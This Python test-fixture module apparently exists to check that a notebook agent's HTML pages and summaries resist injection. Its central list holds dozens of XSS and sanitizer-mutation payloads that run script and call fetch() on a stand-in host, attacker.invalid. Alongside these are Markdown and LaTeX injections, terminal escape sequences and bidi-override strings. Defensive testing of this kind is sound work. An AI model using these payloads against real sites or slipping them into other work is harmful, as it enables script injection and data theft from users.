"""Hostile text wherever a model or a kernel may write: payloads, outputs, runs, pages of them."""

from __future__ import annotations

import warnings
from pathlib import Path
from typing import Any

import nbformat

from kernel_agent.notebook.build import notebook_of
from kernel_agent.notebook.outputs import full_text
from kernel_agent.notebook.page import page_html, summary_html
from kernel_agent.records.action import Call, Calls, Code
from kernel_agent.records.cell import Answer, CellError, CellResult, Decision, HostCall, Observation
from kernel_agent.records.endings import ExitStatus
from kernel_agent.records.trace import (
    DataFile,
    FormatChange,
    Retry,
    RunStart,
    RunStop,
    Step,
    Visit,
)

HOST = "attacker.invalid"
ACT = f"alert(1);fetch('http://{HOST}/js')"
HTML = [
    f"<script>{ACT}</script>",
    f"<script src=//{HOST}/s.js></script>",
    f'<img src=x onerror="{ACT}">',
    f"<img src=http://{HOST}/i.png>",
    f'<a href="javascript:{ACT}">here</a>',
    f'<a href="jav&#x09;ascript:{ACT}">here</a>',
    f'<svg onload="{ACT}"></svg>',
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f"<iframe src=http://{HOST}/f></iframe>",
    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
    f"<embed src=http://{HOST}/e>",
    f"<p style=\"background:url('http://{HOST}/css')\">x</p>",
    f"<style>@import 'http://{HOST}/style'; td {{ background: url(//{HOST}/td) }}</style>",
    f"<link rel=stylesheet href=http://{HOST}/l.css>",
    f"<link rel=prefetch href=http://{HOST}/prefetch>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<base href=http://{HOST}/>",
    f"<form action=http://{HOST}/><input type=submit autofocus onfocus={ACT}></form>",
    f"<video src=http://{HOST}/v onerror={ACT}><source onerror={ACT}></video>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<body onload={ACT} background=http://{HOST}/b>",
    # Mutations: what one parser takes for text, another takes for a tag.
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src onerror={ACT}&gt;'>"
    ),
    f"<svg></p><style><a id='</style><img src=1 onerror={ACT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
    f"<table><td><!--><img src onerror={ACT}>--></table>",
    f"<table><td><textarea></td></table></textarea><img src onerror={ACT}>",
    f"<table><caption><svg><desc><table><td><img src onerror={ACT}>",
    f"<table border='1' class='dataframe'><td title='\"><img src onerror={ACT}>'>x</td></table>",
    f"<table><td>&lt;img src onerror={ACT}&gt;</td></table>",
    f"<TABLE\x0c><td onclick={ACT}\x00>x</td\n></TABLE>",
    "<table>" * 5000,
    "<!--" * 50_000,
]
MARKDOWN = [
    f"[here](javascript:{ACT})",
    f"![x](http://{HOST}/md.png)",
    f"![x][r]\n\n[r]: http://{HOST}/ref.png",
    f"<http://{HOST}/auto>",
    f"$$\\href{{javascript:{ACT}}}{{x}}$$ $\\unicode{{x}}$",
    f"<details><summary>x</summary></details><img src=x onerror={ACT}>",
    f"```\n</code></pre><img src=x onerror={ACT}>\n```",
    f"`<img src=x onerror={ACT}>",
    f"| a |\n|---|\n| <img src=x onerror={ACT}> |",
]
ESCAPES = ["\x1b]8;;http://attacker.invalid/osc\x07link\x1b]8;;\x07", "\x1b[2J\x1b]0;title\x07",
           "\x9b2J", "\x1bP+q544e\x1b\\"]  # fmt: skip
BIDI = ["access = '\u202e\u2066# not checked\u2069 \u2066user'", "\u202dabc\u202c\u202a\u202b"]
TEXTS = [*HTML, *MARKDOWN, *ESCAPES, *BIDI]

KINDS = (
    "text/html", "text/plain", "text/markdown", "text/latex", "image/svg+xml", "image/png",
    "image/jpeg", "image/gif", "application/javascript", "application/json", "application/pdf",
    "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json",
    "application/vnd.vega.v5+json", "text/html; charset=utf-8", "TEXT/HTML", "text/HTML ",
    "application/vnd.kernel-agent.value+json", "application/vnd.kernel-agent.answer+json",
    'x"><script>', "text/vnd.mermaid",
)  # fmt: skip


def shown(data: Any, metadata: Any = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def table(text: str) -> dict[str, Any]:
    """A table as the kernel describes it, with a payload wherever there is text."""
    return {
        "columns": [[text, "b"]], "column_names": [text], "index": [[text], ["y"]],
        "index_names": [text, ""], "cells": [[text], ["1"]], "row_gap": 1, "column_gap": 0,
        "shape": [1, 2],
    }  # fmt: skip


def hostile_outputs() -> list[dict[str, Any]]:
    """Every payload under every MIME type, and everywhere else where an output has text."""
    found = []
    for text in TEXTS:
        for kind in KINDS:
            found.append(shown({kind: text}))
        found.append(shown({"application/json": {"text/html": text, text: [text]}}))
        found.append(shown({"application/vnd.kernel-agent.value+json": {"table": table(text)}}))
        found.append(shown({"text/html": {"text/html": text}, "text/plain": [text, text]}))
        found.append(shown({"text/html": f"<table><tr><td>{text}</td></tr></table>"}))
        found.append(shown({"text/plain": "x"}, {"text/html": text, "isolated": True, text: 1}))
        found.append({"output_type": "stream", "name": text, "text": text})
        found.append({"output_type": "error", "ename": text, "evalue": text, "traceback": [text]})
        found.append({"output_type": text, "text": text})
    return found


def hostile_notebook() -> nbformat.NotebookNode:
    """A whole run in which the task, the thoughts, the outputs and the answer are hostile."""
    start = {"time": "", "model": TEXTS[0], "format": "fenced", "sandbox": {"level": TEXTS[0]},
             "budget": {}}  # fmt: skip
    records: list[Any] = []
    outputs = tuple(hostile_outputs())
    assert full_text(outputs)
    for number, text in enumerate(t for t in TEXTS if len(t) < 1000):
        run = str(number)
        records.append(RunStart(run_id=run, task=text, **start))
        result = CellResult(
            status="error", outputs=outputs[number::40],
            error=CellError(ename=text, evalue=text, traceback=(text,)),
        )  # fmt: skip
        late = CellResult(status="timeout", outputs=outputs[:9])
        steps = [
            (Code(source="1", thought=text), result),
            (Code(source=text, thought=text), late),
        ]
        records += [
            Step(run_id=run, number=2 * number + k, action=action, result=what,
                 observation=Observation(text=text))
            for k, (action, what) in enumerate(steps)
        ]  # fmt: skip
        kind = "str" if number % 2 else "int"
        records.append(
            RunStop(run_id=run, status=ExitStatus.ANSWERED, answer=Answer(text=text, kind=kind))
        )
    return notebook_of(records)


def hostile_run(
    text: str, outputs: Any = (), kind: str = "str", run_id: str = "r", thought: str = ""
) -> list[Any]:
    """Return the records of a run with this text wherever a model or a kernel may write.

    With ``thought`` that stands where a model may write Markdown.
    """
    said = Decision(allowed=False, by="person", reason=text, edited=text)
    call = HostCall(name=text, arguments={text: text}, ok=True, result=text, number=1,
                    decision=said)  # fmt: skip
    file = DataFile(path=text, source=text, bytes=1, sha256=text, kind=text)
    visit = Visit(host=text, port=1, allowed=False, reason=text)
    result = CellResult(
        status="error", outputs=tuple(outputs), calls=(call, call),
        error=CellError(ename=text, evalue=text, traceback=(text,)),
    )  # fmt: skip
    actions = [
        Code(source=text, thought=thought or f"a\n{text}"),
        Calls(calls=(Call(name=text, arguments={text: text}),), thought=thought or text),
        None,
    ]
    return [
        RunStart(run_id=run_id, task=f"a\n{text}", time=text, model=text, format=text,
                 sandbox={"level": text, "statement": text}, budget={"max_steps": 3},
                 data=(file,), tools=(text,), versions={text: text}, format_reason=text),
        FormatChange(run_id=run_id, format=text, reason=text),
        *(Step(run_id=run_id, number=n, action=action, observation=Observation(text=text),
               result=result if n == 1 else None, reasoning=text, decision=said,
               retries=(Retry(content=text, feedback=text),))
          for n, action in enumerate(actions, start=1)),
        RunStop(run_id=run_id, status=ExitStatus.ANSWERED, message=text, partial=text,
                answer=Answer(text=text, kind=kind), network=(visit,)),
    ]  # fmt: skip


def hostile_records() -> list[Any]:
    """One run a payload, with outputs of every kind."""
    outputs = hostile_outputs()
    texts = [text for text in TEXTS if len(text) < 1000]
    return [
        record
        for n, text in enumerate(texts)
        for record in hostile_run(text, outputs[n :: len(texts)], run_id=str(n))
    ]


def in_nbconvert(notebook: nbformat.NotebookNode) -> str:
    """Return a notebook as ``nbconvert --to html`` writes it."""
    from nbconvert import HTMLExporter

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # nbconvert's own
        return HTMLExporter().from_notebook_node(notebook)[0]


def exported_page(folder: Path) -> Path:
    """Write the hostile notebook's page."""
    path = folder / "run.html"
    path.write_text(in_nbconvert(hostile_notebook()))
    return path


def below_a_cell(fragment: str) -> str:
    """Return the page of a notebook with a cell that shows a fragment."""
    cell = nbformat.v4.new_code_cell(
        "%agent", outputs=[nbformat.v4.new_output("display_data", {"text/html": fragment})]
    )
    return in_nbconvert(nbformat.v4.new_notebook(cells=[cell]))


def summary_pages(folder: Path) -> dict[str, Path]:
    """Write the page, the fragment alone, and the fragment as nbconvert shows it as an output."""
    records = hostile_records()
    fragment = summary_html(records, max_chars=5_000_000)
    sources = {
        "page": page_html(records),
        "fragment": f"<!DOCTYPE html><body>{fragment}",
        "notebook": below_a_cell(fragment),
    }
    for name, source in sources.items():
        (folder / f"{name}.html").write_text(source)
    return {name: folder / f"{name}.html" for name in sources}
